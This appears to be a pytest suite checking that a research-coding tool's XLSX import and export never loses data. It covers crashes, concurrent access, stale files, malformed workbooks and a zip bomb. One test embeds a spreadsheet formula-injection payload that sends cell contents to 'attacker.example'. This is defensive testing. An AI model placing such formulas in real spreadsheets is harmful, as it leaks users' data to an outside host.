"""No human code is lost: crashes, concurrent exports, older files, hostile files."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest
from coding_fixtures import TINY_CODEBOOK, code_history, fill, store_with_items, tiny_codebook
from openpyxl import load_workbook

from citeaudit import coding
from citeaudit.store import Store

REPO = Path(__file__).resolve().parents[1]


def store_state(store: Store) -> list[tuple]:
    """Everything coding keeps, to compare before and after a failed import."""
    return [tuple(r) for table in ("codes", "code_history", "coding_imports")
            for r in store.query(f"SELECT * FROM {table} ORDER BY 1, 2, 3")]


def coded_by_alice(tmp_path: Path) -> tuple[Store, Path]:
    book = tiny_codebook()
    store = store_with_items(tmp_path / "s.sqlite")
    first = tmp_path / "first.xlsx"
    coding.export_xlsx(store, book, "alice", first)
    fill(first, {("item-1", "colour"): "red", ("item-2", "colour"): "blue"})
    coding.import_file(store, first)
    return store, first


CRASHING_IMPORT = """
import os, signal, sys
from citeaudit import coding
from citeaudit.store import Store

def die_after_two(stage, done, total):
    if done == 2:
        os.kill(os.getpid(), signal.SIGKILL)

coding.import_file(Store(sys.argv[1]), sys.argv[2], progress=die_after_two)
"""


def test_killed_mid_import_leaves_store_unchanged_and_file_importable(tmp_path):
    store, _ = coded_by_alice(tmp_path)
    book = tiny_codebook()
    second = tmp_path / "second.xlsx"
    coding.export_xlsx(store, book, "alice", second)
    fill(second, {("item-1", "colour"): "green", ("item-3", "colour"): "blue",
                  ("item-4", "tags"): "soft"})
    before = store_state(store)
    script = tmp_path / "crash.py"
    script.write_text(CRASHING_IMPORT)
    env = {**os.environ, "PYTHONPATH": str(REPO)}  # this checkout's citeaudit
    proc = subprocess.run([sys.executable, str(script), str(store.path), str(second)],
                          cwd=REPO, env=env, capture_output=True, text=True, timeout=60,
                          check=False)
    assert proc.returncode == -9, proc.stderr
    assert store_state(store) == before
    assert coding.import_file(store, second).n_changed == 3


def test_export_while_an_import_is_writing(tmp_path):
    store, _ = coded_by_alice(tmp_path)
    book = tiny_codebook()
    importing = tmp_path / "importing.xlsx"
    coding.export_xlsx(store, book, "alice", importing)
    fill(importing, {("item-1", "colour"): "green", ("item-5", "colour"): "red"})
    import_started, export_read, release = threading.Event(), threading.Event(), threading.Event()
    errors: list[BaseException] = []

    def hold(stage, done, total):
        import_started.set()
        release.wait(30)

    def run_import():
        try:
            with Store(store.path) as own:
                coding.import_file(own, importing, progress=hold)
        except BaseException as exc:  # noqa: BLE001 - reported by the test
            errors.append(exc)

    concurrent = tmp_path / "concurrent.xlsx"
    exporter_store = Store(store.path)  # opened (and migrated) before the import holds the lock

    def run_export():
        try:
            coding.export_xlsx(exporter_store, book, "alice", concurrent,
                               progress=lambda stage, d, t: export_read.set())
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)

    importer = threading.Thread(target=run_import)
    importer.start()
    assert import_started.wait(30)
    exporter = threading.Thread(target=run_export)
    exporter.start()
    assert export_read.wait(30)  # read its snapshot while the import is uncommitted
    release.set()
    importer.join(30)
    exporter.join(30)
    exporter_store.close()
    assert not errors
    ws = load_workbook(concurrent)["Items"]
    assert (ws["C2"].value, ws["C6"].value) == ("red", None)  # the state before the import
    assert coding.code_table(store, book)["alice"]["item-1"]["colour"] == ["green"]
    # The concurrently exported file, filled elsewhere, adds its change and undoes nothing.
    fill(concurrent, {("item-6", "colour"): "blue"})
    report = coding.import_file(store, concurrent)
    alice = coding.code_table(store, book)["alice"]
    assert (alice["item-1"]["colour"], alice["item-5"]["colour"], alice["item-6"]["colour"]) \
        == (["green"], ["red"], ["blue"])
    assert report.n_kept_newer == 0 or report.n_changed == 1


def test_older_file_after_newer_one_never_overwrites_silently(tmp_path):
    book = tiny_codebook()
    store = store_with_items(tmp_path / "s.sqlite")
    older, newer = tmp_path / "older.xlsx", tmp_path / "newer.xlsx"
    coding.export_xlsx(store, book, "alice", older)
    coding.export_xlsx(store, book, "alice", newer)
    fill(older, {("item-1", "colour"): "red", ("item-2", "colour"): "green"})
    fill(newer, {("item-1", "colour"): "blue", ("item-3", "colour"): "red"})
    coding.import_file(store, newer)
    before = store_state(store)
    with pytest.raises(coding.CodingImportError) as caught:
        coding.import_file(store, older)
    (problem,) = caught.value.problems
    assert problem.where == "Items!C2" and "conflict" in problem.message
    assert "'red'" in problem.message and "'blue'" in problem.message
    assert store_state(store) == before

    # Re-exported after the newer import, the older file's untouched cells keep newer codes.
    refreshed = tmp_path / "refreshed.xlsx"
    coding.export_xlsx(store, book, "alice", refreshed)
    fill(refreshed, {("item-2", "colour"): "green"})
    coding.import_file(store, refreshed)
    fill(newer, {("item-4", "colour"): "green"})  # the newer file again, one more cell
    report = coding.import_file(store, newer)
    assert report.n_changed == 1
    alice = coding.code_table(store, book)["alice"]
    assert alice["item-1"]["colour"] == ["blue"] and alice["item-2"]["colour"] == ["green"]

    # The person decides the older file wins: allowed, and the history keeps the old code.
    report = coding.import_file(store, older, prefer_file=True)
    assert coding.code_table(store, book)["alice"]["item-1"]["colour"] == ["red"]
    values = [h["value_json"] for h in code_history(store, "item", "item-1")]
    assert values == ['["blue"]', '["red"]']


def test_blanked_cell_keeps_stored_code_with_a_warning(tmp_path):
    store, _ = coded_by_alice(tmp_path)
    book = tiny_codebook()
    again = tmp_path / "again.xlsx"
    coding.export_xlsx(store, book, "alice", again)
    fill(again, {("item-1", "colour"): None, ("item-3", "colour"): "green"})
    report = coding.import_file(store, again)
    assert any("Items!C2" in w and "kept" in w for w in report.warnings)
    assert coding.code_table(store, book)["alice"]["item-1"]["colour"] == ["red"]


def hostile_files(tmp_path: Path, store: Store, good: Path) -> dict[str, tuple[Path, str]]:
    """Files a person (or an accident) might hand us, with a phrase the error must contain."""
    book = tiny_codebook()
    cases: dict[str, tuple[Path, str]] = {}
    text = tmp_path / "notes.xlsx"
    text.write_text("unit_id,colour\nitem-1,red\n")
    cases["csv named xlsx"] = (text, "not an XLSX")
    old = tmp_path / "old.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0" + b"\0" * 100)
    cases["xls"] = (old, ".xls")
    not_book = tmp_path / "archive.xlsx"
    with zipfile.ZipFile(not_book, "w") as zf:
        zf.writestr("hello.txt", "hi")
    cases["zip"] = (not_book, "cannot be read as an XLSX")
    truncated = tmp_path / "truncated.xlsx"
    truncated.write_bytes(good.read_bytes()[:2000])
    cases["truncated"] = (truncated, "XLSX")
    no_meta = tmp_path / "no_meta.xlsx"
    wb = load_workbook(good)
    del wb["_citeaudit"]
    wb.save(no_meta)
    cases["no metadata"] = (no_meta, "_citeaudit")
    version = tmp_path / "version.xlsx"
    wb = load_workbook(good)
    meta = wb["_citeaudit"]
    for row in meta.iter_rows(min_row=2):
        if row[0].value == "codebook_version":
            row[1].value = "7"
    wb.save(version)
    cases["edited codebook version"] = (version, "codebook_version")
    renamed = tmp_path / "renamed.xlsx"
    wb = load_workbook(good)
    wb["Items"]["C1"] = "Colour of item"
    wb["Items"]["A9"] = "item-2"
    wb.save(renamed)
    cases["renamed column"] = (renamed, "'colour' is missing")
    dup = tmp_path / "dup.xlsx"
    wb = load_workbook(good)
    ws = wb["Items"]
    for col in range(1, ws.max_column + 1):
        ws.cell(row=8, column=col, value=ws.cell(row=3, column=col).value)
    ws["C8"] = "green"
    wb.save(dup)
    cases["duplicated row"] = (dup, "appears twice")
    other = Store(tmp_path / "other.sqlite")
    coding.register_units(other, "item", [coding.Unit("item-1")])
    foreign = tmp_path / "foreign.xlsx"
    coding.export_xlsx(other, book, "alice", foreign)
    cases["another store"] = (foreign, "another store")
    v2 = coding.parse_codebook(TINY_CODEBOOK.replace("version: 1", "version: 2"), "tiny.yaml")
    v2_file = tmp_path / "v2.xlsx"
    coding.export_xlsx(store, v2, "alice", v2_file)
    fill(v2_file, {("item-1", "colour"): "green"})
    cases["other codebook version"] = (v2_file, "codebook tiny version 2")
    latin = tmp_path / "latin.csv"
    latin.write_bytes("export_id,unit_id,colour\nx,item-1,r\xe9d\n".encode("latin-1"))
    cases["csv not utf-8"] = (latin, "UTF-8")
    foreign_csv = tmp_path / "foreign.csv"
    foreign_csv.write_text("export_id,unit_id,colour\nabc,item-1,red\n")
    cases["csv unknown export"] = (foreign_csv, "another store")
    return cases


def test_hostile_files_are_refused_with_clear_errors_and_store_unchanged(tmp_path):
    store, good = coded_by_alice(tmp_path)
    book = tiny_codebook()
    cases = hostile_files(tmp_path, store, good)
    before = store_state(store)
    for name, (path, phrase) in cases.items():
        with pytest.raises(coding.CodingImportError) as caught:
            coding.import_file(store, path, codebook=book)
        assert phrase in str(caught.value), (name, str(caught.value))
        assert str(path) in str(caught.value)
        assert store_state(store) == before, name


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice (soffice) not installed; .ci/run installs it")
def test_file_survives_libreoffice_resave(tmp_path):
    store, _ = coded_by_alice(tmp_path)
    book = tiny_codebook()
    exported = tmp_path / "export" / "alice.xlsx"
    coding.export_xlsx(store, book, "alice", exported)
    fill(exported, {("item-3", "colour"): "green", ("item-4", "tags"): "soft; big"},)
    out_dir = tmp_path / "resaved"
    proc = subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
         "--convert-to", "xlsx", "--outdir", str(out_dir), str(exported)],
        capture_output=True, text=True, timeout=120, check=False,
    )
    resaved = out_dir / "alice.xlsx"
    assert resaved.exists(), proc.stdout + proc.stderr
    assert resaved.read_bytes() != exported.read_bytes()
    wb = load_workbook(resaved)
    assert wb["_citeaudit"].sheet_state == "hidden"
    assert any("Codebook" in (dv.formula1 or "")
               for dv in wb["Items"].data_validations.dataValidation)
    report = coding.import_file(store, resaved)
    assert report.n_changed == 2
    alice = coding.code_table(store, book)["alice"]
    assert alice["item-3"]["colour"] == ["green"] and alice["item-4"]["tags"] == ["soft", "big"]
    assert alice["item-1"]["colour"] == ["red"]


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(tmp_path):
    # model responses and titles come from outside: "=HYPERLINK(...)" must not become a live
    # formula in a coder's workbook, and the round trip must still work
    store = Store(tmp_path / "s.sqlite")
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Click to see the full text")'
    coding.register_units(store, "item", [
        coding.Unit("item-1", display={"title": hostile, "size": 1},
                    evidence=[{"evidence_id": "e1", "text": "+1 and -1 and @sum"}], position=1),
    ])
    book = tiny_codebook()
    path = tmp_path / "alice.xlsx"
    coding.export_xlsx(store, book, "alice", path)
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert any(c.value == hostile for c in cells)
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.value) for c in cells
                                                   if c.data_type != "s"]
    fill(path, {("item-1", "colour"): "red"})
    report = coding.import_file(store, path, codebook=book)
    assert report.n_changed == 1 and not report.warnings


# --- damaged workbooks through the CLI: `code export`, damage, `code import` ---
def cli(store_path: Path, *args: str):
    from click.testing import CliRunner

    from citeaudit.cli import main

    return CliRunner().invoke(main, ["--store", str(store_path), *args])


def exported_by_cli(tmp_path: Path) -> tuple[Path, Path]:
    """A store with items and alice's workbook as `code export` writes it."""
    store_path = tmp_path / "s.sqlite"
    store_with_items(store_path).close()
    book = tmp_path / "tiny.yaml"
    book.write_text(TINY_CODEBOOK, encoding="utf-8")
    sheet = tmp_path / "alice.xlsx"
    result = cli(store_path, "code", "export", "--codebook", str(book), "--coder", "alice",
                 "-o", str(sheet))
    assert result.exit_code == 0, result.output
    return store_path, sheet


def state_of(store_path: Path) -> list[tuple]:
    with Store(store_path) as store:
        return store_state(store)


def rewrite_member(path: Path, name: str, change) -> None:
    """The workbook with one zip member's bytes replaced by `change(bytes)`."""
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members[name] = change(members[name])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)


def refused(store_path: Path, path: Path, *command: str) -> str:
    """Import `path`, expecting exit 1 and the store unchanged; the output, spaces collapsed."""
    before = state_of(store_path)
    result = cli(store_path, *command, str(path))
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert path.name in "".join(result.output.split())  # the file is named
    assert state_of(store_path) == before
    return " ".join(result.output.split())


def test_code_import_of_a_workbook_with_malformed_sheet_xml_names_file_and_sheet(tmp_path):
    store_path, sheet = exported_by_cli(tmp_path)
    fill(sheet, {("item-1", "colour"): "red"})
    items_part = f"xl/worksheets/sheet{load_workbook(sheet).sheetnames.index('Items') + 1}.xml"
    rewrite_member(sheet, items_part, lambda xml: xml[:len(xml) // 2])  # cut mid-element
    said = refused(store_path, sheet, "code", "import")
    assert "sheet 'Items': its XML is damaged" in said and "nothing was imported" in said


def test_code_import_of_a_formula_in_a_code_cell_names_the_cell(tmp_path):
    store_path, sheet = exported_by_cli(tmp_path)
    fill(sheet, {("item-1", "colour"): "red", ("item-2", "colour"): "=1+1"})
    ws = load_workbook(sheet)["Items"]
    (cell,) = [c.coordinate for row in ws.iter_rows() for c in row if c.value == "=1+1"]
    said = refused(store_path, sheet, "code", "import")
    assert f"Items!{cell}: a formula (=1+1), not a value; type the code or note itself" in said
    assert "1 problem(s)" in said  # item-1's code is not stored either


def test_code_import_refuses_a_non_zip_and_a_workbook_that_unpacks_to_too_much(tmp_path):
    store_path, sheet = exported_by_cli(tmp_path)
    text = tmp_path / "text.xlsx"
    text.write_text("this is not a workbook", encoding="utf-8")
    assert "not an XLSX file" in refused(store_path, text, "code", "import")
    with zipfile.ZipFile(sheet, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/media/padding.bin", "w", force_zip64=True) as member:
            zeros = bytes(2**20)
            for _ in range(257):  # MiB, just over the limit
                member.write(zeros)
    assert sheet.stat().st_size < 2**21  # small on disk, huge unpacked
    said = refused(store_path, sheet, "code", "import")
    assert "unpacks to 257 MiB, far more than any export (limit 256 MiB)" in said
